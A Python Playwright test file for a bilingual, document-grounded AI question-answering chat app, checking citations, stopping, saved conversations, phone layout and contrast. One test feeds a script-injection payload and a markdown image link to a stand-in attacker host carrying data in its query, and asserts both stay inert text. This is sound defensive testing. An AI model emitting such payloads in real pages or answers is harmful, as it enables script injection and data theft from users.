"""The chat in a real browser: asking, sources, stopping, conversations, phone, contrast."""

import re
import time

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Open
from tests.browser.tabs import open_tab

GERMAN = "Warum begann der Pilot 21 Wochen später?"
ENGLISH = "Why did the refusal rate rise after the provider replaced the model version?"
# Notes the order in which sources, draft and finished answer come on screen.
WATCH = """() => {
  window.order = [];
  const look = () => {
    const parts = {sources: '.card', draft: '.answer.draft', answer: '.answer:not(.draft)'};
    for (const [name, selector] of Object.entries(parts)) {
      if (!window.order.includes(name) && document.querySelector(selector)) window.order.push(name);
    }
  };
  new MutationObserver(look).observe(document.body, {childList: true, subtree: true});
}"""


def ask(page: Page, question: str) -> None:
    page.locator("#question textarea").fill(question)
    page.keyboard.press("Enter")


def ask_and_wait(page: Page, question: str, number: int = 1) -> None:
    ask(page, question)
    expect(page.locator(f"#exchange-{number}:not(.running) .answer:not(.draft)").first).to_be_visible()


def test_a_german_question_is_answered_with_sources(page: Page) -> None:
    ask_and_wait(page, GERMAN)
    expect(page.locator(".answer")).to_contain_text("Der Pilot begann 21 Wochen später als geplant.")
    expect(page.locator(".checks summary")).to_contain_text("wörtlich belegt")
    expect(page.locator(".answer .support.quoted").first).to_have_attribute("aria-label", "wörtlich belegt")
    expect(page.locator(".byline")).to_contain_text("Wörtliche Zitate aus den Fundstellen")
    expect(page.locator(".card mark").first).to_have_text("Der Pilot begann 21 Wochen später als geplant.")
    expect(page.locator("#question textarea")).to_have_value("")


def test_sources_are_on_screen_before_the_first_word(page: Page) -> None:
    page.evaluate(WATCH)
    ask_and_wait(page, ENGLISH)
    order = page.evaluate("window.order")
    assert order.index("sources") < order.index("answer")
    assert "draft" not in order or order.index("sources") < order.index("draft")
    expect(page.locator(".answer:not(.draft)")).to_have_attribute("lang", "en")
    expect(page.locator(".card").first).to_contain_text("Silent model updates")


def test_a_citation_opens_its_source_with_the_quote_marked(page: Page) -> None:
    ask_and_wait(page, GERMAN)
    page.locator(".answer .cite").first.click()
    expect(page.locator('.card[aria-current="true"]')).to_have_count(1)
    reader = page.locator(".reader")
    expect(reader).to_be_focused()
    expect(reader.locator("mark")).to_have_text("Der Pilot begann 21 Wochen später als geplant.")
    expect(reader).to_contain_text("Maschinendaten werden zu Personendaten")
    page.keyboard.press("Escape")
    expect(reader).to_have_count(0)


def test_a_stopped_answer_keeps_its_sources_and_the_next_question_starts_at_once(page: Page) -> None:
    ask(page, ENGLISH)
    expect(page.locator("#exchange-1 .byline.waiting")).to_be_visible()
    expect(page.locator(".card").first).to_be_visible()
    page.locator("#stop").click()
    expect(page.locator("#exchange-1 .byline")).to_contain_text("Angehalten")
    expect(page.locator(".card").first).to_be_visible()
    start = time.monotonic()
    ask_and_wait(page, GERMAN, number=2)
    assert time.monotonic() - start < 15
    expect(page.locator("#exchange-1 .byline")).to_contain_text("Angehalten")


def test_a_new_question_replaces_a_running_answer(page: Page) -> None:
    page.get_by_role("radio", name=re.compile("Gründlich")).check()  # still being written when the next one comes
    ask(page, ENGLISH)
    expect(page.locator("#exchange-1 .byline.waiting")).to_be_visible()
    page.get_by_role("radio", name=re.compile("Kurz")).check()  # so that a slow machine ends the second one in time
    ask_and_wait(page, GERMAN, number=2)
    expect(page.locator("#exchange-1 .byline")).to_contain_text("Angehalten")
    expect(page.locator("#send")).to_be_visible()


def test_what_the_documents_do_not_hold_is_refused(page: Page) -> None:
    ask_and_wait(page, "Welche Lieblingsfarbe hat der Papagei des Bürgermeisters?")
    expect(page.locator(".answer.refused")).to_be_visible()
    expect(page.locator(".byline")).to_contain_text("Durchsucht: ")


def test_switching_the_language_keeps_the_conversation(page: Page) -> None:
    ask_and_wait(page, GERMAN)
    page.locator("#language label", has_text="EN").click()
    expect(page.get_by_role("tab", name="Documents")).to_be_visible()
    expect(page.locator(".byline")).to_contain_text("Word-for-word quotations")
    expect(page.locator(".question > p")).to_contain_text(GERMAN)
    expect(page.locator("#send")).to_have_text("Ask")
    expect(page.locator("html")).to_have_attribute("lang", "en")
    page.reload()
    expect(page.locator("#send")).to_have_text("Ask")


@pytest.mark.parametrize(("locale", "text"), [("de-AT", "Fragen"), ("en-GB", "Ask"), ("fr-FR", "Fragen")])
def test_the_page_opens_in_the_language_of_the_browser(open_page: Open, locale: str, text: str) -> None:
    page = open_page(locale=locale)
    expect(page.locator("#send")).to_have_text(text)


def test_an_example_is_asked_by_one_click(page: Page) -> None:
    question = page.locator(".example").first.inner_text()
    page.locator(".example").first.click()
    expect(page.locator(".question > p")).to_contain_text(question)
    expect(page.locator(".example").first).to_be_hidden()


def test_shift_and_enter_start_a_new_line(page: Page) -> None:
    field = page.locator("#question textarea")
    field.fill("Eins")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("zwei")
    expect(field).to_have_value("Eins\nzwei")


def test_hostile_documents_and_questions_stay_text(page: Page) -> None:
    ask_and_wait(page, "Was verlangt der Lieferant Grauwacke? <img src=x onerror=\"document.title='verletzt'\">")
    expect(page.locator(".card").first).to_contain_text("Lieferant Grauwacke")
    page.locator(".card .card-title").first.click()
    expect(page.locator(".reader")).to_contain_text("![Logo](http://evil.example/?q=geheim)")
    assert page.locator(".reader img, .card img, .exchange img, .reader a").count() == 0
    expect(page).to_have_title("Assistent für KI-Projekte")


def test_two_browsers_share_nothing(open_page: Open) -> None:
    one, other = open_page(), open_page(locale="en-US")
    ask_and_wait(one, GERMAN)
    expect(other.locator(".exchange")).to_have_count(0)
    expect(other.locator("#send")).to_have_text("Ask")
    other.goto(address_of(one))
    expect(other.locator("#welcome")).to_be_visible()
    expect(other).to_have_url(re.compile(r"/$"))  # its number says nothing, not even that it exists
    expect(other.locator(".exchange, #kept li")).to_have_count(0)
    assert other.evaluate("document.cookie") == ""


def address_of(page: Page) -> str:
    """The address with the number of the conversation, once it stands there."""
    page.wait_for_function("location.search.startsWith('?c=')")
    return str(page.evaluate("location.href"))


def test_a_reload_brings_the_conversation_back(page: Page) -> None:
    ask_and_wait(page, GERMAN)
    ask_and_wait(page, "Was wird für eine Betriebsvereinbarung empfohlen?", number=2)
    address = address_of(page)
    page.reload()
    expect(page.locator(".exchange")).to_have_count(2)
    expect(page.locator("#exchange-1 .answer")).to_contain_text("21 Wochen später")
    expect(page.locator(".evidence h2")).to_have_text("Fundstellen zu Frage 2")
    assert page.evaluate("location.href") == address


@pytest.mark.parametrize(
    ("patch", "shown"),
    [
        ('<div data-drawn="1" data-conversation="" data-reset></div>', 1),
        ('<div data-drawn="9e15" data-conversation="999"><article id="exchange-2"></article></div>', 1),
        ('<div data-drawn="9e15" data-conversation="" data-reset></div>', 0),
        ("", 1),
    ],
)
def test_what_comes_too_late_is_not_drawn(page: Page, patch: str, shown: int) -> None:
    ask_and_wait(page, GERMAN)
    draw = "(log, patch) => log.dispatchEvent(new CustomEvent('merge', {detail: patch}))"
    page.locator("#log .log").evaluate(draw, patch)
    expect(page.locator(".exchange, #exchange-2")).to_have_count(shown)


def test_an_answer_goes_on_while_the_page_is_reloaded(page: Page) -> None:
    ask(page, ENGLISH)
    expect(page.locator("#exchange-1 .byline.waiting")).to_be_visible()
    address_of(page)
    page.reload()
    expect(page.locator("#exchange-1 .question > p")).to_contain_text(ENGLISH)
    expect(page.locator("#exchange-1:not(.running) .answer:not(.draft)").first).to_be_visible()
    expect(page.locator("#exchange-1 .byline").last).not_to_contain_text("Stopped")


def test_conversations_are_listed_opened_renamed_found_and_deleted(page: Page) -> None:
    ask_and_wait(page, GERMAN)
    page.locator("#new").click()
    expect(page.locator(".exchange")).to_have_count(0)
    ask_and_wait(page, "Was verlangt der Lieferant Grauwacke?")
    titles = page.locator("#kept .title")
    expect(titles).to_have_text(["Was verlangt der Lieferant Grauwacke?", GERMAN])
    page.locator("#kept .more > summary").first.click()
    page.locator("#kept .more[open] input").fill("Brief des Lieferanten")
    page.keyboard.press("Enter")
    expect(titles.first).to_have_text("Brief des Lieferanten")
    page.locator("#conversation-search").locator("input, textarea").fill("spaeter")
    expect(titles).to_have_text([GERMAN])
    titles.first.click()
    expect(page.locator(".question > p")).to_have_text([GERMAN])
    page.locator("#kept .more > summary").first.click()
    page.locator("#kept .deletion > summary").first.click()
    page.locator("#kept .more[open] .danger").click()
    expect(page.locator(".exchange")).to_have_count(0)
    expect(page.locator("#welcome")).to_be_visible()


def test_a_conversation_is_saved_as_a_file(page: Page) -> None:
    ask_and_wait(page, GERMAN)
    for name, ending in (("Markdown", ".md"), ("JSON", ".json")):
        if not page.locator("#kept .more[open]").count():
            page.locator("#kept .more > summary").first.click()
        with page.expect_download() as download:
            page.get_by_role("button", name=f"Als {name} speichern").click()
        assert download.value.suggested_filename.endswith(ending)
        assert GERMAN in download.value.path().read_text(encoding="utf-8")


def test_a_rating_with_a_remark_is_there_after_a_reload(page: Page) -> None:
    ask_and_wait(page, GERMAN)
    page.get_by_role("button", name="Nicht hilfreich").click()
    page.locator(".remark textarea").fill("Die Zahl <b>fehlt</b>")
    page.get_by_role("button", name="Anmerkung speichern").click()
    expect(page.locator(".remark summary")).to_have_text("Ihre Anmerkung: Die Zahl <b>fehlt</b>")
    address_of(page)
    page.reload()
    expect(page.locator(".remark summary")).to_have_text("Ihre Anmerkung: Die Zahl <b>fehlt</b>")
    expect(page.get_by_role("button", name="Nicht hilfreich")).to_have_attribute("aria-pressed", "true")


def test_an_edited_question_branches_and_the_old_conversation_stays(page: Page) -> None:
    ask_and_wait(page, GERMAN)
    before = address_of(page)
    page.locator(".edit summary").click()
    expect(page.locator(".edit textarea")).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator(".edit textarea")).to_be_hidden()
    page.locator(".edit summary").click()
    page.locator(".edit textarea").fill("Was verlangt der Lieferant Grauwacke?")
    page.locator(".edit [type=submit]").click()
    expect(page.locator(".question > p")).to_have_text(["Was verlangt der Lieferant Grauwacke?"])
    page.wait_for_function("(before) => location.href !== before", arg=before)
    page.goto(before)
    expect(page.locator(".question > p")).to_have_text([GERMAN])


def test_the_chip_answers_again_in_another_mode(page: Page) -> None:
    ask_and_wait(page, GERMAN)
    page.locator(".chip summary").click()
    page.locator(".chip").get_by_role("button", name="Lehren").click()
    expect(page.locator(".chip summary")).to_have_text("Gewählt: Lehren")
    expect(page.locator(".exchange")).to_have_count(1)


def test_the_state_of_the_answer_is_told_to_a_screen_reader(page: Page) -> None:
    ask_and_wait(page, GERMAN)
    expect(page.locator("#answer-state")).to_contain_text("Antwort fertig.")
    expect(page.locator("#answer-state")).to_have_attribute("aria-live", "polite")


def test_on_a_phone_list_and_filters_unfold_and_nothing_is_too_wide(open_page: Open) -> None:
    page = open_page(viewport={"width": 360, "height": 740}, has_touch=True, is_mobile=True)
    ask_and_wait(page, GERMAN)
    expect(page.locator("#filters")).to_be_hidden()
    page.locator("#filters-switch").tap()
    expect(page.locator("#mode input")).to_be_visible()
    expect(page.locator("#conversations")).to_be_hidden()
    page.locator("#list-switch").tap()
    expect(page.locator("#conversations")).to_be_visible()
    expect(page.locator("#list-switch")).to_have_attribute("aria-expanded", "true")
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    page.keyboard.press("Escape")
    expect(page.locator("#conversations")).to_be_hidden()
    expect(page.locator("#list-switch")).to_be_focused()


@pytest.mark.parametrize("tab", ["Fragen", "Dokumente"])
def test_nothing_needs_sideways_scrolling_on_a_phone(open_page: Open, tab: str) -> None:
    page = open_page(viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True)
    ask_and_wait(page, GERMAN)
    open_tab(page, tab)
    shown = "#question" if tab == "Fragen" else "#drop"
    expect(page.locator(shown)).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 390


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_is_readable_in_light_and_dark(open_page: Open, scheme: str) -> None:
    page = open_page(color_scheme=scheme)
    ask_and_wait(page, GERMAN)
    found = [".answer p", ".byline", ".card-title", ".facts span", ".excerpt mark", ".status li", ".cite", "#send"]
    found += [
        ".support.quoted",
        ".checks summary",
        ".chip summary",
        ".edit summary",
        ".actions .quiet",
        "#effort .selected",
    ]
    for selector in found:
        assert page.locator(selector).first.evaluate(CONTRAST) >= 4.5, selector


# Contrast of text and background after WCAG 2.2, 1.4.3.
CONTRAST = """(element) => {
  const parse = (c) => { const n = c.match(/[\\d.]+/g).map(Number); return n.length > 3 ? n : [...n, 1]; };
  const light = ([r, g, b]) => [r, g, b].map((v) => v / 255)
    .map((v) => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  let back = element;
  while (back && parse(getComputedStyle(back).backgroundColor)[3] === 0) back = back.parentElement;
  const colours = [getComputedStyle(element).color, back ? getComputedStyle(back).backgroundColor : 'rgb(255,255,255)'];
  const [one, other] = colours.map((c) => light(parse(c))).sort((a, b) => b - a);
  return (one + 0.05) / (other + 0.05);
}"""


def test_nothing_of_gradio_is_offered(page: Page) -> None:
    expect(page.locator("footer")).to_have_count(0)
    assert not re.search(r"Use via API|Built with Gradio", page.locator("body").inner_text())
